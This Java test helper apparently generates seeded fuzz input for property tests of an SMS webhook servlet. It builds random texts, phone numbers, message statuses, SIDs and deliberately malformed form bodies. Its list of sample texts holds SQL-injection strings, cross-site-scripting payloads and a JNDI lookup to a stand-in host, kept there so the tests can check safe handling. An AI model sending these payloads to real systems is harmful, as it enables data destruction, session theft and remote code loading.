package dev.frontdesk.sms.servlet;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Hostile input for the property tests: a seeded random source of texts, numbers and raw form bodies. Each
 * property runs a bounded number of tries from fixed seeds, so a failure names its seed and try and is
 * reproduced exactly by running again.
 */
final class Fuzz {
    /** Texts a person (or an attacker) might send, stored and shown exactly as written. */
    static final List<String> VALID_TEXTS = List.of(
            "Robert'); DROP TABLE leads;--",
            "' OR '1'='1",
            "1; DELETE FROM messages WHERE 1=1; --",
            "\" UNION SELECT phone_number FROM leads --",
            "<script>alert(document.cookie)</script>",
            "<img src=x onerror=alert(1)>",
            "&lt;b&gt; &amp; &quot; &#39; </textarea><svg onload=alert(1)>",
            "{{7*7}} ${jndi:ldap://evil.example/a} %s %n %x",
            "🚰💧🔧 leak!!! 👩🏽‍🔧 🇺🇸",
            "Ça fuit sous l'évier — можете прийти? 水漏れ 🙏",
            "עברית RTL \u202E override \u200B zero width \u200D joiner",
            "e\u0301 combining, ﬁ ligature, Ⅻ, ٣ digits",
            "line one\nline two\r\nline three\ttab",
            "  leading and trailing spaces  ",
            "back\\slash \"quotes\" 'single' `tick` % 100% %%",
            "a+b=c&d=e?f#g",
            "x".repeat(1600),
            "🔧".repeat(800),
            "é".repeat(1600),
            "");

    private static final String[] NUMBER_SHAPES = {
        "0", "1", "-1", "+3", " 2 ", "007", "1e3", "1E-2", "0x10", "1.5", "-0", "NaN", "Infinity", "",
        "2147483647", "2147483648", "-2147483649", "99999999999999999999999", "١٢", "٣", "１２", "1_000", "1,000",
        "\u0000", "3\u0000", "１", "²", "0b101", "--1", "1-"};

    private static final String[] STATUS_WORDS = {
        "queued", "sending", "sent", "delivered", "read", "undelivered", "failed", "receiving", "received",
        "accepted", "scheduled", "canceled", "DELIVERED", "Sent", " sent ", "pending", "simulated", "partially_delivered",
        "delivered\u0000", "délivré", ""};

    final long seed;
    final Random random;

    Fuzz(long seed) {
        this.seed = seed;
        this.random = new Random(seed);
    }

    boolean chance(int percent) {
        return random.nextInt(100) < percent;
    }

    <T> T pick(List<T> items) {
        return items.get(random.nextInt(items.size()));
    }

    String pick(String... items) {
        return items[random.nextInt(items.length)];
    }

    /** Any text at all: valid, unicode, control characters, NUL, lone surrogates, empty or huge. */
    String text() {
        switch (random.nextInt(9)) {
            case 0:
                return pick(VALID_TEXTS);
            case 1:
                return "";
            case 2:
                return randomChars(random.nextInt(40), 0, 0x7F);
            case 3:
                return randomChars(random.nextInt(200), 0, 0xFFFF); // includes NUL, controls and lone surrogates
            case 4:
                return randomCodePoints(random.nextInt(100));
            case 5:
                return pick(VALID_TEXTS) + "\u0000" + randomChars(5, 0, 0x1F);
            case 6:
                return "x".repeat(1000 + random.nextInt(80_000)); // huge: past the 64 KiB webhook cap sometimes
            case 7:
                return number();
            default:
                return "\uD800" + pick(VALID_TEXTS) + "\uDFFF";
        }
    }

    /** Text a customer could really send: no NUL, no lone surrogates, at most 1,600 characters. */
    String validText() {
        if (chance(40)) {
            return pick(VALID_TEXTS);
        }
        String s = randomCodePoints(1 + random.nextInt(300)).replace("\u0000", "");
        return s.length() > 1600 ? s.substring(0, Character.isHighSurrogate(s.charAt(1599)) ? 1599 : 1600) : s;
    }

    /** Numbers in every shape, as Twilio's number fields might carry them. */
    String number() {
        return chance(80) ? pick(NUMBER_SHAPES) : Integer.toString(random.nextInt());
    }

    String status() {
        return chance(80) ? pick(STATUS_WORDS) : text();
    }

    /** A phone number: mostly possible ones, sometimes junk. */
    String phone() {
        switch (random.nextInt(6)) {
            case 0:
                return text();
            case 1:
                return pick("+", "", " ", "+1", "+15551234567890123", "555-123-4567", "(555) 123 4567", "+1 555 ٢٣٤ 5678",
                        "whatsapp:+15551234567", "+1555123456\u0000", "tel:+15551234567", "+15551234567;ext=1");
            default:
                return String.format("+1555%07d", random.nextInt(10_000_000));
        }
    }

    /** A message SID: mostly Twilio's shape, sometimes junk. */
    String sid() {
        return chance(75) ? String.format("SM%032x", random.nextLong() & Long.MAX_VALUE) : text();
    }

    private String randomChars(int n, int from, int to) {
        StringBuilder b = new StringBuilder(n);
        for (int i = 0; i < n; i++) {
            b.append((char) (from + random.nextInt(to - from + 1)));
        }
        return b.toString();
    }

    private String randomCodePoints(int n) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < n; i++) {
            int cp;
            switch (random.nextInt(4)) {
                case 0 -> cp = 0x20 + random.nextInt(0x5F);
                case 1 -> cp = 0xA0 + random.nextInt(0x2000);
                case 2 -> cp = 0x1F300 + random.nextInt(0x300); // emoji
                default -> cp = random.nextInt(0x10FFFF);
            }
            if (cp >= 0xD800 && cp <= 0xDFFF) {
                cp = 'x';
            }
            b.appendCodePoint(cp);
        }
        return b.toString();
    }

    // ---------------------------------------------------------------- raw form bodies

    /**
     * Encodes {@code params} as a form body, then maybe damages it: a key repeated, a bad percent-escape,
     * raw bytes that are not UTF-8, a stray separator.
     */
    byte[] form(Map<String, String> params) {
        List<String> pairs = new ArrayList<>();
        params.forEach((k, v) -> pairs.add(enc(k) + "=" + enc(v)));
        if (!pairs.isEmpty() && chance(10)) {
            pairs.add(pick(pairs)); // repeated key
        }
        if (chance(8)) {
            pairs.add(random.nextInt(pairs.size() + 1), pick("Body=%", "Body=%G1", "From=%2", "x=%E2%82", "%=1", "Body=100%"));
        }
        if (chance(5)) {
            pairs.add(pick("&", "=", "==", "a", "&&&", "=x"));
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (int i = 0; i < pairs.size(); i++) {
            if (i > 0) {
                out.write('&');
            }
            out.writeBytes(pairs.get(i).getBytes(StandardCharsets.UTF_8));
        }
        if (chance(8)) {
            // raw bytes that are not UTF-8, outside any escape, or escaped
            out.writeBytes(pick("&Body=", "&Extra=", "").getBytes(StandardCharsets.UTF_8));
            if (chance(50)) {
                out.writeBytes(new byte[] {(byte) 0xFF, (byte) 0xFE, (byte) 0xC3, 0x28, (byte) 0xE2, (byte) 0x82});
            } else {
                out.writeBytes("%FF%FE%C3%28%ED%A0%80".getBytes(StandardCharsets.UTF_8));
            }
        }
        return out.toByteArray();
    }

    private static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    @Override
    public String toString() {
        return "seed " + seed;
    }
}
